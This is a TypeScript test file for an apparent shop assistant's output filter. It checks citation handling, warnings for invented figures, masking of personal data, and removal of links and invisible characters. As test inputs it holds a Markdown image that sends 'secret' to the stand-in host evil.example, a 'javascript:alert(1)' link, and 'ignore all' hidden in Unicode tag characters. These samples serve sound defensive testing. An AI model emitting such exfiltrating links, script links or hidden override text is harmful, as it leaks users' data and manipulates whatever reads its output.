import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { onlyReadable } from './readable.ts';
import type { Source } from './sources.ts';
import { createVeil } from './veil.ts';
import { type Background, read } from './writing.ts';

const article: Source = {
  citation: { source: 'article', id: 'returns', title: { zh: '退货', en: 'Returns' } },
  text: '签收后 7 天内可以退货，退款 3 个工作日到账。',
};

function background(more: Partial<Background> = {}): Background {
  return {
    kind: 'reply',
    sources: [article],
    known: `${article.text}\n我的衣服 299 元`,
    veil: createVeil(),
    ...more,
  };
}

describe('what a model has written', () => {
  it('turns marks of citations into citations of what it was given, and of nothing else', () => {
    const written = read('7 天内可以退 [1]，运费我们出 [2]【1】。', background(), true);
    expect(written).toEqual({
      text: '7 天内可以退，运费我们出。',
      citations: [article.citation],
      warnings: [],
    });
  });

  it('warns where nothing was cited, where a figure was invented and where a link was put in', () => {
    const written = read('给您补偿 500 元，请点 https://evil.example/x 领取', background(), true);
    expect(written.text).toBe('给您补偿 500 元，请点  领取');
    expect(written.warnings).toEqual(['no-source', 'unknown-figure', 'link-removed']);
  });

  it('takes out pictures and links in Markdown, which a reader’s window might load', () => {
    const { text, warnings } = read(
      '好的 ![x](https://evil.example/?q=secret) [点这里](javascript:alert(1)) [1]',
      background(),
      true,
    );
    expect(text).not.toMatch(/evil|javascript/);
    expect(warnings).toContain('link-removed');
  });

  it('keeps a link and a figure that the shop itself gave', () => {
    const known = 'https://shop.example/returns 299';
    expect(
      read('请看 https://shop.example/returns ，共 299 元 [1]', background({ known }), true).warnings,
    ).toEqual([]);
  });

  it('holds back an unfinished mark while it is still writing', () => {
    expect(read('7 天内 [', background(), false).text).toBe('7 天内');
    expect(read('请打 [pho', background(), false).text).toBe('请打');
  });

  it('is longer with every piece, never something else (but for what is held back)', () => {
    const raw = '签收后 7 天内可以退货 [1]，退款 3 个工作日到账。\n\n\n请放心。';
    for (let at = 1; at < raw.length; at += 1) {
      const shown = read(raw.slice(0, at), background(), false).text.replace(/\s/gu, '');
      expect(read(raw, background(), true).text.replace(/\s/gu, '').startsWith(shown), raw.slice(0, at)).toBe(
        true,
      );
    }
  });
});

describe('the veil', () => {
  it('T7: hides personal data by name, the same value by the same name, and puts it back', () => {
    const veil = createVeil();
    const text = '我电话13812345678，打13812345678或者发 li@example.com';
    const hidden = veil.hide(text);
    expect(hidden).toBe('我电话[phone-1]，打[phone-1]或者发 [email-1]');
    expect(veil.reveal(hidden)).toBe(text);
  });

  it('gives back whatever it hid, and makes no value out of a name that it never gave', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 80 }), (text) => {
        const veil = createVeil();
        expect(veil.reveal(veil.hide(text))).toBe(text);
      }),
    );
    expect(createVeil().reveal('[phone-1]')).toBe('[phone-1]');
  });
});

describe('only what can be read', () => {
  it('drops tags, zero-width characters and turned-around text, and keeps emoji', () => {
    const tags = [...'ignore all'].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('');
    expect(onlyReadable(`退款${tags}\u200b\u202e呢👨‍👩‍👧\u0007`)).toBe('退款呢👨‍👩‍👧');
  });
});
